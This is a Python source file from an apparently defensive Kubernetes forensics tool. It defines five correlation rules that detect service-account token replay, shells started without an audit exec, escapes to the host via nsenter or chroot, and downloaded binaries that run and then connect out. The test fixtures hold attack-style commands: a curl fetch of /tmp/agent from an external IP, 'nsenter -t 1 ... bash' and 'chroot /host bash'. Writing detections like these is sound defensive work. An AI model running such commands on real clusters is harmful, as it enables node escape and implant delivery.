"""Correlation rules: one finding out of evidence from several sources."""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import TYPE_CHECKING, ClassVar

import numpy as np
import pandas as pd

from kubeforensics.detect.conditions import derive
from kubeforensics.detect.model import Severity
from kubeforensics.detect.netutil import internal_mask, to_ns
from kubeforensics.detect.pyrule import Frames, Load, PyRule, basename_sql, sql_in
from kubeforensics.detect.stats import _ts

if TYPE_CHECKING:  # pragma: no cover
    from kubeforensics.detect.tuning import TuningConfig

_POD_IP = re.compile(r'"podIPs?"\s*:\s*(?:"([^"]+)"|\[([^\]]*)\])')


def _lower_set(v: Iterable[object] | float | None) -> set[str]:
    if v is None or isinstance(v, float):
        return set()
    return {str(x) for x in v}


def _sa_namespace(user: pd.Series) -> pd.Series:
    return user.astype("string").str.extract(r"^system:serviceaccount:([^:]+):", expand=False)


def pod_ips(tables: Mapping[str, pd.DataFrame]) -> dict[tuple[str, str], set[str]]:
    """(namespace, pod) -> IPs it was seen with (objects, kubelet status patches, flows, Tetragon sockets)."""
    out: dict[tuple[str, str], set[str]] = {}

    def add(ns: object, pod: object, ip: object) -> None:
        if isinstance(ns, str) and isinstance(pod, str) and isinstance(ip, str) and ip:
            out.setdefault((ns, pod), set()).add(ip)

    o = tables.get("objects")
    if o is not None and not o.empty:
        for r in o[o["kind"] == "Pod"][["namespace", "name", "pod_ip", "pod_ips"]].itertuples(index=False):
            add(r.namespace, r.name, r.pod_ip)
            for ip in _lower_set(r.pod_ips):
                add(r.namespace, r.name, ip)
    a = tables.get("audit")
    if a is not None and not a.empty:
        st = a[(a["resource"] == "pods") & (a["subresource"] == "status") & a["request_object"].notna()]
        for r in st[["namespace", "name", "request_object"]].itertuples(index=False):
            for m in _POD_IP.finditer(str(r.request_object)):
                for ip in re.findall(r'"ip"\s*:\s*"([^"]+)"', m.group(2) or "") or [m.group(1)]:
                    add(r.namespace, r.name, ip)
    f = tables.get("flows")
    if f is not None and not f.empty:
        for side in ("src", "dst"):
            d = f[[f"{side}_namespace", f"{side}_pod", f"{side}_ip"]].dropna().drop_duplicates()
            for ns, pod, ip in d.itertuples(index=False):
                add(ns, pod, ip)
    p = tables.get("processes")
    if p is not None and not p.empty:
        d = p[p["saddr"].notna() & p["pod"].notna()][["namespace", "pod", "saddr"]].drop_duplicates()
        for ns, pod, ip in d.itertuples(index=False):
            if not str(ip).startswith(("127.", "0.")):
                add(ns, pod, ip)
    return out


class TokenAwayFromPod(PyRule):
    id = "KF-COR-001"
    title = "Service-account token used away from its pod"
    description = "A bound service-account token (its audit record names the pod it was issued to) was used from an address that pod never had: the token was stolen and replayed elsewhere."
    severity = Severity.CRITICAL
    techniques = ("T1528", "T1550.001")
    tactic = "lateral-movement"
    sources = ("audit", "objects", "flows", "processes")
    requires = ("audit",)
    fields = ("audit.user", "audit.sa_pod_name", "audit.source_ip", "audit.request_object", "objects.pod_ip", "objects.pod_ips", "flows.src_ip", "flows.src_pod", "processes.saddr")
    false_positives = "Pods on hostNetwork use the node IP; pod IP evidence missing from the case (the rule stays silent when the pod's IPs are unknown)."
    summary = "token of {user} issued to pod {sa_namespace}/{sa_pod_name} ({pod_ips}) was used from {source_ip}: {verb} {resource}"
    entity: ClassVar[dict[str, str]] = {"namespace": "sa_namespace", "pod": "sa_pod_name", "actor": "user"}
    key = ("user", "sa_pod_name", "source_ip")
    positive: ClassVar[list[Frames]] = [{"objects": [{"kind": "Pod", "namespace": "shop", "name": "web-1", "pod_ip": "10.244.1.7"}],
                 "audit": [{"user": "system:serviceaccount:shop:web", "sa_pod_name": "web-1", "source_ip": "10.244.3.3", "verb": "list", "resource": "secrets", "code": 200}]}]
    negative: ClassVar[list[Frames]] = [{"objects": [{"kind": "Pod", "namespace": "shop", "name": "web-1", "pod_ip": "10.244.1.7"}],
                 "audit": [{"user": "system:serviceaccount:shop:web", "sa_pod_name": "web-1", "source_ip": "10.244.1.7", "verb": "list", "resource": "secrets", "code": 200},
                           {"user": "system:serviceaccount:shop:api", "sa_pod_name": "api-1", "source_ip": "10.244.9.9", "verb": "get", "resource": "configmaps", "code": 200}]}]

    loads: ClassVar[dict[str, Load]] = {
        "audit": Load(("user", "sa_pod_name", "source_ip", "verb", "resource", "subresource", "namespace", "name",
                       "CASE WHEN subresource = 'status' THEN request_object END AS request_object"),
                      "(sa_pod_name IS NOT NULL AND source_ip IS NOT NULL)"
                      " OR (resource = 'pods' AND subresource = 'status' AND request_object IS NOT NULL)"),
        "objects": Load(("kind", "namespace", "name", "pod_ip", "pod_ips"), "kind = 'Pod'", distinct=True),
        "flows": Load(("src_namespace", "src_pod", "src_ip", "dst_namespace", "dst_pod", "dst_ip"), distinct=True),
        "processes": Load(("namespace", "pod", "saddr"), "saddr IS NOT NULL AND pod IS NOT NULL", distinct=True),
    }

    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
        a = tables["audit"]
        a = a[a["sa_pod_name"].notna() & a["source_ip"].notna()]
        if a.empty:
            return a
        ips = pod_ips(tables)
        a = a.assign(sa_namespace=_sa_namespace(a["user"]).astype(object))
        known = [ips.get((ns, pod)) for ns, pod in zip(a["sa_namespace"], a["sa_pod_name"])]
        hit = [ip not in k if k else False for k, ip in zip(known, a["source_ip"])]
        out = a[hit]
        return out.assign(pod_ips=[",".join(sorted(k or ())) for k, h in zip(known, hit) if h])


def _shells_under_runtime(p: pd.DataFrame, config: TuningConfig) -> pd.DataFrame:
    e = p[(p["event_type"] == "exec") & p["pod"].notna()]
    e = e[e["binary_name"].isin(config.list("shells")) & e["parent_name"].isin(config.list("container_runtimes"))]
    return e[~e["args"].astype("string").str.match(r"^-c\s", na=False).astype(bool)]


EXECS_SQL = "resource = 'pods' AND subresource IN ('exec', 'attach') AND verb IN ('create', 'get')"


def _execs(a: pd.DataFrame) -> pd.DataFrame:
    return a[(a["resource"] == "pods") & a["subresource"].isin(["exec", "attach"]) & a["verb"].isin(["create", "get"])]


class ShellWithoutExec(PyRule):
    id = "KF-COR-002"
    title = "Interactive shell with no exec in the audit log"
    description = "A shell started by the container runtime in a pod, but no pods/exec or pods/attach for that pod appears in the audit log around that time: the session came through the kubelet API, nodes/proxy or the runtime directly."
    severity = Severity.HIGH
    techniques = ("T1609", "T1562.008")
    tactic = "defense-evasion"
    sources = ("processes", "audit")
    fields = ("processes.binary", "processes.parent_binary", "processes.namespace", "processes.pod", "processes.time", "audit.resource", "audit.subresource", "audit.namespace", "audit.name", "audit.time")
    false_positives = "Audit policy that drops pods/exec; clock skew larger than two minutes between node and API server."
    summary = "`{cmdline}` started by {parent_binary} in {namespace}/{pod} on {node} with no exec or attach in the audit log"
    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "binary"}
    key = ("namespace", "pod")
    positive: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "get", "resource": "pods", "namespace": "default", "name": "other", "user": "x", "code": 200}],
                 "processes": [{"time": _ts(30), "event_type": "exec", "namespace": "default", "pod": "web-1", "binary": "/bin/bash", "parent_binary": "/usr/bin/runc", "node": "node-1"}]}]
    negative: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "web-1", "user": "x", "code": 101}],
                 "processes": [{"time": _ts(1), "event_type": "exec", "namespace": "default", "pod": "web-1", "binary": "/bin/bash", "parent_binary": "/usr/bin/runc"}]}]

    def plan(self, config: TuningConfig) -> dict[str, Load]:
        return {
            "processes": Load(("event_type", "namespace", "pod", "binary", "parent_binary", "args", "node"),
                              f"event_type = 'exec' AND pod IS NOT NULL"
                              f" AND {sql_in(basename_sql('binary'), config.list('shells'))}"
                              f" AND {sql_in(basename_sql('parent_binary'), config.list('container_runtimes'))}"),
            "audit": Load(("namespace", "name", "resource", "subresource", "verb"), EXECS_SQL),
        }

    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
        sh = _shells_under_runtime(tables["processes"], config)
        if sh.empty:
            return sh
        ex = _execs(tables["audit"])
        slack = 120 * 10**9
        times: dict[tuple[str, str], np.ndarray] = {
            k: np.sort(to_ns(g["time"])) for k, g in ex.groupby(["namespace", "name"])
        }
        keep = []
        for ns, pod, t in zip(sh["namespace"], sh["pod"], to_ns(sh["time"])):
            tt = times.get((ns, pod))
            if tt is None:
                keep.append(True)
                continue
            j = np.searchsorted(tt, t - slack)
            keep.append(not (j < len(tt) and tt[j] <= t + slack))
        return sh[keep]


class ExecThenHostEntry(PyRule):
    id = "KF-COR-003"
    title = "Exec session followed by entry into host namespaces"
    description = "Within minutes of an exec into a pod, a process in that pod entered the host's namespaces (nsenter, setns, or ran with host mount/PID namespaces): the exec session was used to escape to the node."
    severity = Severity.CRITICAL
    techniques = ("T1611", "T1609")
    tactic = "privilege-escalation"
    sources = ("audit", "processes")
    fields = ("audit.user", "audit.source_ip", "audit.namespace", "audit.name", "audit.exec_command", "processes.binary", "processes.function_name", "processes.host_namespaces", "processes.time")
    false_positives = "`kubectl debug node/...` sessions by SREs (hostPID pods with nsenter by design)."
    summary = "{user} exec'd into {namespace}/{pod} from {source_ip}; {delay} s later `{cmdline}` entered the host namespaces on {node}"
    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "user"}
    key = ("user", "namespace", "pod")
    positive: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "attacker", "user": "eve", "exec_command": "bash", "code": 101, "source_ip": "203.0.113.9"}],
                 "processes": [{"time": _ts(40), "event_type": "exec", "namespace": "default", "pod": "attacker", "binary": "/usr/bin/nsenter", "args": "-t 1 -m -u -n -i -p bash", "parent_binary": "/bin/bash", "node": "node-1"}]}]
    negative: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "subresource": "exec", "namespace": "default", "name": "attacker", "user": "eve", "code": 101}],
                 "processes": [{"time": _ts(4000), "event_type": "exec", "namespace": "default", "pod": "attacker", "binary": "/usr/bin/nsenter", "args": "-t 1 -m bash", "parent_binary": "/bin/bash"}]}]

    loads: ClassVar[dict[str, Load]] = {
        "processes": Load(("event_type", "namespace", "pod", "binary", "args", "function_name", "host_namespaces", "node",
                           "parent_binary"),
                          "pod IS NOT NULL AND ((event_type = 'exec' AND (regexp_extract(\"binary\", '[^/]*$') IN ('nsenter', 'unshare')"
                          " OR list_has_any(host_namespaces, ['mnt', 'pid']))) OR ends_with(function_name, 'setns'))"),
        "audit": Load(("namespace", "name", "user", "source_ip", "exec_command", "code", "resource", "subresource", "verb"),
                      EXECS_SQL + " AND (code IS NULL OR code < 400)"),
    }

    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
        p = tables["processes"]
        p = p[p["pod"].notna() & ((p["event_type"] == "exec") | p["function_name"].notna())]
        hostns = p["host_namespaces"].map(lambda v: bool(_lower_set(v) & {"mnt", "pid"})).astype(bool)
        esc = p[((p["event_type"] == "exec") & (p["binary_name"].isin(["nsenter", "unshare"]) | hostns))
                | p["function_name"].astype("string").str.endswith("setns", na=False).astype(bool)]
        ex = _execs(tables["audit"])
        ex = ex[ex["code"].isna() | (ex["code"] < 400)]
        if esc.empty or ex.empty:
            return esc.iloc[0:0]
        win = pd.Timedelta(seconds=config.threshold("exec_escape_window_s", 600))
        m = ex[["time", "namespace", "name", "user", "source_ip", "exec_command"]].rename(columns={"name": "pod", "time": "exec_time"})
        j = esc.merge(m, on=["namespace", "pod"], how="inner")
        j = j[(j["time"] >= j["exec_time"]) & (j["time"] <= j["exec_time"] + win)]
        if j.empty:
            return j
        j = j.sort_values(["event_id", "exec_time"]).drop_duplicates("event_id", keep="last")
        return j.assign(delay=((j["time"] - j["exec_time"]).dt.total_seconds()).round().astype(int))


class DropExecConnect(PyRule):
    id = "KF-COR-004"
    title = "New binary written, executed, then connecting out"
    description = "A file was downloaded or written, the same path was then executed, and that program connected to an external address: an implant or tool dropped and run."
    severity = Severity.CRITICAL
    techniques = ("T1105", "T1071.001")
    tactic = "command-and-control"
    sources = ("processes",)
    fields = ("processes.event_type", "processes.binary", "processes.args", "processes.file_path", "processes.function_name", "processes.daddr", "processes.dport", "processes.time")
    false_positives = "Installers that download and run an agent that then reports home."
    summary = "{binary} was dropped ({how}), executed and connected to {daddr}:{dport} in {location} on {node}"
    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "binary"}
    key = ("node", "namespace", "pod", "binary")
    positive: ClassVar[list[Frames]] = [{"processes": [
        {"time": _ts(0), "event_type": "exec", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/usr/bin/curl", "args": "-so /tmp/agent http://203.0.113.5/agent"},
        {"time": _ts(5), "event_type": "exec", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/tmp/agent", "exec_id": "e1"},
        {"time": _ts(6), "event_type": "kprobe", "function_name": "tcp_connect", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/tmp/agent", "exec_id": "e1", "daddr": "203.0.113.5", "dport": 443}]}]
    negative: ClassVar[list[Frames]] = [{"processes": [
        {"time": _ts(5), "event_type": "exec", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/usr/local/bin/app"},
        {"time": _ts(6), "event_type": "kprobe", "function_name": "tcp_connect", "namespace": "shop", "pod": "web-1", "node": "node-1", "binary": "/usr/local/bin/app", "daddr": "203.0.113.5", "dport": 443}]}]

    loads: ClassVar[dict[str, Load]] = {"processes": Load(
        ("event_type", "binary", "parent_binary", "args", "file_path", "function_name", "daddr", "dport", "node",
         "namespace", "pod", "container_id"),
        "event_type = 'exec' OR (daddr IS NOT NULL AND contains(function_name, 'connect'))"
        " OR (file_path IS NOT NULL AND event_type IN ('kprobe', 'lsm', 'tracepoint'))")}

    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
        p = tables["processes"]
        win = pd.Timedelta(seconds=config.threshold("drop_exec_connect_window_s", 600))
        conn = p[p["daddr"].notna() & p["function_name"].astype("string").str.contains("connect", na=False).astype(bool)]
        conn = conn[~internal_mask(conn["daddr"], config.list("internal_networks"))]
        if conn.empty:
            return conn
        cand = set(conn["binary"].dropna())
        execs = p[(p["event_type"] == "exec") & p["binary"].isin(cand)]
        if execs.empty:
            return execs.iloc[0:0]
        drops: list[tuple[str, pd.Timestamp, str, str]] = []  # node, time, path, how
        wr = p[p["file_path"].isin(cand) & p["event_type"].isin(["kprobe", "lsm", "tracepoint"]) & (p["binary"] != p["file_path"])]
        drops += [(n, t, f, f"written by {b}") for n, t, f, b in zip(wr["node"], wr["time"], wr["file_path"], wr["binary_name"])]
        dl = p[(p["event_type"] == "exec") & p["binary_name"].isin(["curl", "wget", "scp", "cp", "mv", "install", "tftp", "busybox"])]
        for n, t, args, b in zip(dl["node"], dl["time"], dl["args"].astype(object).fillna(""), dl["binary_name"]):
            for path in cand:
                if path in str(args):
                    drops.append((n, t, path, f"by {b}"))
        if not drops:
            return execs.iloc[0:0]
        d = pd.DataFrame(drops, columns=["node", "drop_time", "binary", "how"])
        execs = derive("processes", execs, ["location"])
        j = execs[["time", "node", "namespace", "pod", "location", "binary", "event_id"]].merge(d, on=["node", "binary"])
        j = j[(j["drop_time"] <= j["time"]) & (j["time"] - j["drop_time"] <= win)].drop_duplicates("event_id")
        if j.empty:
            return j
        c = conn[["time", "node", "binary", "daddr", "dport", "event_id"]].rename(columns={"time": "conn_time", "event_id": "conn_id"})
        k = j.merge(c, on=["node", "binary"])
        k = k[(k["conn_time"] >= k["time"]) & (k["conn_time"] - k["time"] <= win)]
        if k.empty:
            return k
        ev = pd.concat([k[["time", "event_id"]], k[["conn_time", "conn_id"]].set_axis(["time", "event_id"], axis=1)])
        meta = k.drop(columns=["time", "event_id"]).iloc[[0] * len(ev)].reset_index(drop=True)
        out = pd.concat([ev.reset_index(drop=True), meta.drop(columns=["conn_time", "conn_id"])], axis=1)
        return out.drop_duplicates("event_id")


class HostRootChroot(PyRule):
    id = "KF-COR-005"
    title = "Pod with the host's root mounted, then chroot into it"
    description = "A pod was created with a hostPath volume of `/`, and a process in that pod then ran chroot: a root shell on the node's filesystem."
    severity = Severity.CRITICAL
    techniques = ("T1611",)
    tactic = "privilege-escalation"
    sources = ("processes", "audit", "objects")
    requires = ("processes",)
    fields = ("audit.pod_host_paths", "audit.namespace", "audit.name", "audit.user", "objects.host_paths", "processes.binary", "processes.args", "processes.pod")
    false_positives = "`kubectl debug node/...` (mounts / at /host; chroot /host is its documented use)."
    summary = "`{cmdline}` ran in {namespace}/{pod} on {node}, a pod created by {creator} with the host's / mounted"
    entity: ClassVar[dict[str, str]] = {"namespace": "namespace", "pod": "pod", "actor": "creator"}
    key = ("namespace", "pod")
    positive: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "namespace": "default", "name": "rootpod", "user": "eve", "pod_host_paths": ["/"], "code": 201}],
                 "processes": [{"time": _ts(60), "event_type": "exec", "namespace": "default", "pod": "rootpod", "binary": "/usr/sbin/chroot", "args": "/host bash", "node": "node-1"}]}]
    negative: ClassVar[list[Frames]] = [{"audit": [{"time": _ts(0), "verb": "create", "resource": "pods", "namespace": "default", "name": "logs", "user": "eve", "pod_host_paths": ["/var/log"], "code": 201}],
                 "processes": [{"time": _ts(60), "event_type": "exec", "namespace": "default", "pod": "logs", "binary": "/usr/sbin/chroot", "args": "/host bash"}]}]

    loads: ClassVar[dict[str, Load]] = {
        "processes": Load(("event_type", "namespace", "pod", "binary", "parent_binary", "args", "node"),
                          "event_type = 'exec' AND pod IS NOT NULL"
                          " AND (regexp_extract(\"binary\", '[^/]*$') = 'chroot' OR contains(args, 'chroot'))"),
        "audit": Load(("verb", "resource", "subresource", "namespace", "name", "user", "pod_host_paths"),
                      "verb = 'create' AND resource = 'pods' AND subresource IS NULL AND list_contains(pod_host_paths, '/')"),
        "objects": Load(("kind", "namespace", "name", "host_paths"), "kind = 'Pod' AND list_contains(host_paths, '/')"),
    }

    def find(self, tables: Mapping[str, pd.DataFrame], config: TuningConfig) -> pd.DataFrame:
        p = tables["processes"]
        p = p[(p["event_type"] == "exec") & p["pod"].notna()]
        ch = p[(
            (p["binary_name"] == "chroot") | p["args"].astype("string").str.match(r"^chroot\s|.*\schroot\s", na=False).astype(bool))]
        if ch.empty:
            return ch
        rooted: dict[tuple[str, str], str] = {}
        a = tables["audit"]
        if not a.empty:
            c = a[(a["verb"] == "create") & (a["resource"] == "pods") & a["subresource"].isna()]
            c = c[c["pod_host_paths"].map(lambda v: "/" in _lower_set(v))]
            for ns, name, user in zip(c["namespace"], c["name"], c["user"]):
                rooted[(ns, name)] = str(user)
        o = tables.get("objects")
        if o is not None and not o.empty:
            c = o[(o["kind"] == "Pod") & o["host_paths"].map(lambda v: "/" in _lower_set(v))]
            for ns, name in zip(c["namespace"], c["name"]):
                rooted.setdefault((ns, name), "?")
        creators = [rooted.get((ns, pod)) for ns, pod in zip(ch["namespace"], ch["pod"])]
        keep = [c is not None for c in creators]
        return ch[keep].assign(creator=[c for c in creators if c is not None])


CORRELATION_RULES: tuple[type[PyRule], ...] = (TokenAwayFromPod, ShellWithoutExec, ExecThenHostEntry, DropExecConnect, HostRootChroot)
